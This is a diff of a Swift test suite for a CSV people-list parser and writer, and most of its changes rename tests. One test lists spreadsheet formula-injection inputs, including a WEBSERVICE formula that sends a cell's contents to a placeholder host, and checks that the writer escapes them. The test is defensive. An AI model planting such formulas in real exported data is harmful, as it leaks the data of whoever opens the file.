@@ -8,7 +8,7 @@ struct PeopleListTests {
     try PeopleList(parsing: Array(text.utf8))
   }
 
-  @Test func `reads names and lifetimes, with the columns in either order`() throws {
+  @Test func `a list of people has names and lifetimes, with the columns in either order`() throws {
     let people = try list("username,lifetime\nmina,60\njun,\n").people
     #expect(people == [.init(username: "mina", lifetime: 60), .init(username: "jun", lifetime: nil)])
     #expect(try list("lifetime,username\n60,mina\n").people == [.init(username: "mina", lifetime: 60)])
@@ -38,17 +38,17 @@ struct PeopleListTests {
     ("lifetime;username\n", .separator(.semicolon)), ("username;\n", .separator(.semicolon)),
     ("username\tlifetime\nmina\t60\n", .separator(.tab)), ("a;b\n", .unknownColumn("a;b")),
   ])
-  func `names the character that separates the fields instead of commas`(text: String, problem: PeopleListProblem) {
+  func `a list without commas is refused, and the refusal names the character that separates its fields`(text: String, problem: PeopleListProblem) {
     #expect(throws: problem) { try list(text) }
     if case .separator = problem { #expect(problem.description.contains("instead of commas")) }
   }
 
-  @Test func `a line with one field is read as one field`() {
+  @Test func `the refusal of a line says 'field' for one field and 'fields' for several`() {
     #expect(PeopleListProblem.fields(found: 1, wanted: 2).description == "there is 1 field instead of 2")
     #expect(PeopleListProblem.fields(found: 3, wanted: 2).description == "there are 3 fields instead of 2")
   }
 
-  @Test func `says that a UTF-16 file is UTF-16`() {
+  @Test func `a list in UTF-16 is refused, and the refusal says that it is UTF-16`() {
     let text = "username\nmina\n".utf16
     for bytes: [UInt8] in [
       [0xFF, 0xFE] + text.flatMap { [UInt8($0), 0] }, [0xFE, 0xFF] + text.flatMap { [0, UInt8($0)] },
@@ -66,13 +66,13 @@ struct PeopleListTests {
     ("mi\u{0}na,5", .controlCharacter), ("mina\r,5", .controlCharacter),
     (String(repeating: "a", count: 1100), .tooLong),
   ])
-  func `names a wrong line by its number, and reads the other lines`(line: String, problem: PeopleListProblem) throws {
+  func `a wrong line of a list is named by its number, and the other lines are read`(line: String, problem: PeopleListProblem) throws {
     let parsed = try list("username,lifetime\nfirst,1\n\(line)\nlast,2\n")
     #expect(parsed.wrong == [.init(line: 3, problem: problem)])
     #expect(parsed.people.map(\.username) == ["first", "last"])
   }
 
-  @Test func `refuses what is not UTF-8, and more lines than the limit`() throws {
+  @Test func `refuses a list that is not UTF-8, or that has more lines than the limit`() throws {
     #expect(throws: PeopleListProblem.notUTF8) { try PeopleList(parsing: Array("username\n".utf8) + [0xFF]) }
     let many = "username\n" + (0...PeopleList.maximumCount).map { "a\($0)\n" }.joined()
     #expect(throws: PeopleListProblem.tooMany) { try list(many) }
@@ -83,7 +83,7 @@ struct PeopleListTests {
   }
 
   @Test(arguments: ["mina", "mi,na", "ju\"n", "\"", "", "a,b\"\"c"])
-  func `a field that was written is read back unchanged`(field: String) throws {
+  func `a CSV field is read back exactly as it was written`(field: String) throws {
     for fields in [[field], [field, "x", field]] {
       let line = CSVLine.written(fields)
       #expect(line.hasSuffix("\n"))
@@ -94,7 +94,7 @@ struct PeopleListTests {
   @Test(arguments: [
     #"=WEBSERVICE("http://a.test/?"&B2)"#, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1,2", "=\u{301}1",
     "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}1",
-  ]) func `no written field is a formula, with quotes or without`(field: String) throws {
+  ]) func `a CSV field that looks like a formula is written so that no spreadsheet computes it`(field: String) throws {
     let line = CSVLine.written(["mina", field])
     #expect(line.utf8.starts(with: "mina,'".utf8) || line.utf8.starts(with: "mina,\"'".utf8))
     #expect(try CSVLine(parsing: String(line.dropLast())).fields == ["mina", "'" + field])
